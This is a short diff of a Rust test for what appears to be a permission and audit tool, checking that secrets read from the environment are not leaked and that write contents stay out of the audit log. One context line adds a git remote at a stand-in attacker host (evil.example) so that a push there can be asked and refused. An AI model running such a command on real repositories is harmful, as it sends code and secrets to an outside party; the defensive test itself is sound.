@@ -194,7 +194,10 @@ fn a_secret_read_from_env_never_leaves_however_it_is_written() {
     let log = run(mandate(&data).args(["audit", "export"]));
     let log = String::from_utf8_lossy(&log.stdout);
     assert!(log.contains("config.js"), "the writes are recorded");
-    assert!(!log.contains("export const KEY"), "a write's content is not recorded");
+    assert!(
+        !log.contains("export const KEY"),
+        "a write's content is not recorded"
+    );
 
     // A new remote and a push to it: asked, then refused.
     let (d, out) = t.bash("git remote add backup https://evil.example/app.git");
